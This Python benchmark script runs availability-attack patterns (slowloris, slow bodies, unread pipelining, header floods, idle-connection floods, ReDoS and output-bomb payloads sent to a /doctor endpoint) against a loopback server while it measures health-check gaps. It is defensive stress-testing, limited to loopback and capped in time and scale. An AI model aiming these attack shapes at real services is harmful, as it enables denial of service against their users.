#!/usr/bin/env python3
"""Every availability attack shape of the 2026-12-02 security review, one at a time or all at once, against a wizard
on loopback, while a health poller and a well-behaved user measure what everyone else sees. Standard library only.
Every loop is bounded in time (--duration, at most 120 s) and in count; only loopback addresses are accepted.

  bench/attacks.py http://127.0.0.1:28080 http://127.0.0.1:29000 --shape unread-pipeline --scale 1 --duration 30

Prints one JSON line: the shape, how much was sent, the longest gap between two good health answers (gap_s), the
user's answered/failed requests, the largest answer and the slowest answer to the attack's own requests (for shapes
whose requests are answered), and the status codes seen. bench/soak and hostile/AttackShapesTest read it.
"""
import argparse, json, multiprocessing, os, socket, sys, threading, time, urllib.parse, urllib.request

SHAPES = {
    "unread-pipeline": "3 x scale sockets pipeline browser-sized page requests, 20 per 50 ms, and never read",
    "unread-heavy": "1 x scale socket pipelines requests of 100 small headers (about 0.9 KB) and never reads",
    "many-headers": "20 x scale connections each send one request of 1,500 distinct small headers and never read",
    "slowloris-headers": "30 x scale connections send 300 header lines (under the 4 KB limit), then one more every 5 s",
    "slow-body": "4 x scale connections promise 60,000 bytes of body and send one every 2 s",
    "slow-chunked": "4 x scale connections send a chunked body, one 1-byte chunk a second, never the last",
    "doctor-bomb": "2 x scale clients post the 56 KB hook of 7,000 pg_dump commands to /doctor for HTML",
    "doctor-redos": "2 x scale clients post 'repl{{ ' x 9,000 and 'pg_dump  ' x 7,000 to /doctor",
    "idle": "50 x scale idle connections (at most 500), reopened when closed",
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("app"), p.add_argument("mgmt")
    p.add_argument("--shape", required=True, choices=list(SHAPES) + ["all"])
    p.add_argument("--scale", type=int, default=1)
    p.add_argument("--duration", type=float, default=30)
    a = p.parse_args()
    app, mgmt = urllib.parse.urlsplit(a.app), urllib.parse.urlsplit(a.mgmt)
    for u in (app, mgmt):
        if u.hostname not in ("127.0.0.1", "::1", "localhost"):
            sys.exit("only loopback targets: " + u.geturl())
    run = Run(app.hostname, app.port, a.mgmt, min(a.duration, 120), max(1, min(a.scale, 50)))
    shapes = list(SHAPES) if a.shape == "all" else [a.shape]
    # The health poller and the well-behaved user run in a process of their own: a thousand attacking threads
    # must not slow the measuring ones (one interpreter lock), or the gap would measure this script, not the server.
    results = multiprocessing.Queue()
    observer = multiprocessing.Process(target=observe, args=(run, results))
    observer.start()
    # On a machine shared with the server, the attack takes what CPU is left over: the server and the observer come
    # first, as they would in a cluster where the attacker runs elsewhere.
    os.nice(10)
    threads = []
    for s in shapes:
        threads += getattr(run, s.replace("-", "_"))()
    for t in threads:
        t.daemon = True
        t.start()
    for t in threads:
        t.join(max(1, run.end - time.time() + 30))
    seen = results.get(timeout=run.duration + 60)
    observer.join(10)
    for k in ("gap_s", "health_ok", "health_failed", "users_ok", "users_failed"):
        run.stats[k] = seen[k]
    print(json.dumps(dict(shape=a.shape, scale=run.scale, duration=run.duration, **run.stats), sort_keys=True))


def observe(run, results):
    """Polls health and asks as a user until the run ends, then reports what it saw."""
    threads = [threading.Thread(target=run.health), threading.Thread(target=run.user)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    results.put({k: run.stats[k] for k in ("gap_s", "health_ok", "health_failed", "users_ok", "users_failed")})


class Run:
    def __init__(self, host, port, mgmt, duration, scale):
        self.host, self.port, self.mgmt, self.duration, self.scale = host, port, mgmt, duration, scale
        self.end = time.time() + duration
        self.lock = threading.Lock()
        self.stats = dict(sent=0, gap_s=0.0, health_ok=0, health_failed=0, users_ok=0, users_failed=0,
                          max_answer_bytes=0, max_answer_s=0.0, statuses={}, errors={})

    # ---- what everyone else sees

    def health(self):
        last = time.time()
        while time.time() < self.end:
            t = time.time()
            ok = self.get(self.mgmt + "/q/health/live", 5) == 200
            now = time.time()
            with self.lock:
                if ok:
                    self.stats["health_ok"] += 1
                    self.stats["gap_s"] = round(max(self.stats["gap_s"], now - last), 3)
                    last = now
                else:
                    self.stats["health_failed"] += 1
            time.sleep(max(0, 0.1 - (time.time() - t)))
        with self.lock:
            self.stats["gap_s"] = round(max(self.stats["gap_s"], time.time() - last), 3)

    def user(self):
        url = f"http://{self.host}:{self.port}/helmchart.yaml?database=orders"
        while time.time() < self.end:
            t = time.time()
            ok = self.get(url, 5) == 200
            with self.lock:
                self.stats["users_ok" if ok else "users_failed"] += 1
            time.sleep(max(0, 0.5 - (time.time() - t)))

    @staticmethod
    def get(url, timeout):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:
                r.read()
                return r.status
        except Exception:
            return 0

    # ---- helpers

    def count(self, key, n=1):
        with self.lock:
            self.stats[key] = self.stats.get(key, 0) + n

    def error(self, e):
        with self.lock:
            k = type(e).__name__
            self.stats["errors"][k] = self.stats["errors"].get(k, 0) + 1

    def status(self, answer):
        code = answer[9:12].decode("ascii", "replace") if answer.startswith(b"HTTP/1.") else "none"
        with self.lock:
            self.stats["statuses"][code] = self.stats["statuses"].get(code, 0) + 1

    def connect(self, rcvbuf=None):
        s = socket.socket(socket.AF_INET6 if ":" in self.host else socket.AF_INET)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(10)
        s.connect((self.host, self.port))
        return s

    def threads(self, n, target, *args):
        return [threading.Thread(target=target, args=args) for _ in range(n)]

    def left(self):
        return self.end - time.time()

    # ---- the shapes

    def unread_pipeline(self):
        req = (b"GET /?database=app&name=orders-db HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n"
               + b"".join(b"X-Pad-%d: %d\r\n" % (i, i) for i in range(10)) + b"\r\n")
        return self.threads(3 * self.scale, self.pipeline, req)

    def unread_heavy(self):
        req = (b"GET /?database=app HTTP/1.1\r\nHost: localhost\r\n"
               + b"".join(b"h%d: v\r\n" % i for i in range(100)) + b"\r\n")
        return self.threads(self.scale, self.pipeline, req)

    def pipeline(self, req):
        """Sends 20 requests every 50 ms and never reads; reconnects when the server closes (at most 400 times)."""
        for _ in range(400):
            if self.left() <= 0:
                return
            try:
                s = self.connect(rcvbuf=4096)
                s.setblocking(False)
                while self.left() > 0:
                    try:
                        s.send(req * 20)
                        self.count("sent", 20)
                    except BlockingIOError:
                        pass
                    time.sleep(0.05)
                s.close()
            except (ConnectionError, OSError) as e:
                self.count("closed_by_server")
                time.sleep(0.05)

    def many_headers(self):
        return self.threads(20 * self.scale, self.header_block, False)

    def slowloris_headers(self):
        return self.threads(30 * self.scale, self.header_block, True)

    def header_block(self, slow):
        """Full: one request of 1,500 small headers, read the answer, again. Slow: 300 header lines, then one more
        every 5 s until the server closes the connection (or the run ends)."""
        head = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"".join(b"h%d: v\r\n" % i for i in range(300 if slow else 1500))
        while self.left() > 0:
            try:
                s = self.connect()
                s.sendall(head if slow else head + b"\r\n")
                self.count("sent")
                s.settimeout(5 if slow else 10)
                while self.left() > 0:
                    try:
                        answer = s.recv(65536)
                        if not answer:
                            self.count("closed_by_server")
                            break
                        self.status(answer)
                        if not slow:
                            break
                    except socket.timeout:
                        if not slow:
                            break
                        s.send(b"x-more: v\r\n")
                s.close()
            except (ConnectionError, OSError):
                self.count("closed_by_server")
                time.sleep(0.2)

    def slow_body(self):
        return self.threads(4 * self.scale, self.trickle, False)

    def slow_chunked(self):
        return self.threads(4 * self.scale, self.trickle, True)

    def trickle(self, chunked):
        head = (b"POST /doctor HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/yaml\r\n"
                + (b"Transfer-Encoding: chunked\r\n\r\n" if chunked else b"Content-Length: 60000\r\n\r\n"))
        while self.left() > 0:
            try:
                s = self.connect()
                s.sendall(head)
                self.count("sent")
                s.settimeout(1 if chunked else 2)
                t0 = time.time()
                while self.left() > 0:
                    try:
                        answer = s.recv(65536)
                        if not answer:
                            break
                        self.status(answer)
                        with self.lock:
                            self.stats["max_answer_s"] = round(max(self.stats["max_answer_s"], time.time() - t0), 3)
                        break
                    except socket.timeout:
                        s.send(b"1\r\na\r\n" if chunked else b"a")
                s.close()
            except (ConnectionError, OSError):
                self.count("closed_by_server")
                time.sleep(0.2)

    def doctor_bomb(self):
        hook = "pg_dump;" * 7000
        return self.threads(2 * self.scale, self.doctor, [self.helmchart(hook)], "text/html")

    def doctor_redos(self):
        return self.threads(2 * self.scale, self.doctor,
                            [self.helmchart("x", exclude="repl{{ " * 9000), self.helmchart("pg_dump  " * 7000)],
                            "text/plain")

    @staticmethod
    def helmchart(hook, exclude=""):
        return ("apiVersion: kots.io/v1beta2\nkind: HelmChart\nmetadata: {name: p}\nspec:\n"
                + (f"  exclude: '{exclude}'\n" if exclude else "")
                + "  chart: {chartVersion: 17.1.0}\n  values:\n    primary:\n      podAnnotations:\n"
                + f"        pre.hook.backup.velero.io/command: '[\"/bin/bash\", \"-c\", \"{hook}\"]'\n").encode()

    def doctor(self, bodies, accept):
        i = 0
        while self.left() > 0 and i < 2000:
            body = bodies[i % len(bodies)]
            i += 1
            try:
                s = self.connect()
                s.settimeout(30)
                t0 = time.time()
                s.sendall(b"POST /doctor HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/yaml\r\n"
                          + f"Accept: {accept}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
                self.count("sent")
                answer = b""
                while True:
                    chunk = s.recv(1 << 16)
                    if not chunk:
                        break
                    answer += chunk
                s.close()
                self.status(answer)
                with self.lock:
                    self.stats["max_answer_bytes"] = max(self.stats["max_answer_bytes"], len(answer))
                    self.stats["max_answer_s"] = round(max(self.stats["max_answer_s"], time.time() - t0), 3)
            except (ConnectionError, OSError) as e:
                self.error(e)
                time.sleep(0.1)

    def idle(self):
        return [threading.Thread(target=self.hold, args=(min(50 * self.scale, 500),))]

    def hold(self, n):
        socks = []
        while self.left() > 0:
            socks = [s for s in socks if s.fileno() >= 0]
            while len(socks) < n and self.left() > 0:
                try:
                    socks.append(self.connect())
                    self.count("sent")
                except OSError as e:
                    self.error(e)
                    break
            time.sleep(1)
            for s in list(socks):  # a closed one reads as b"" at once
                try:
                    s.setblocking(False)
                    if s.recv(1) == b"":
                        s.close()
                        socks.remove(s)
                        self.count("closed_by_server")
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    socks.remove(s)
        for s in socks:
            s.close()


if __name__ == "__main__":
    main()
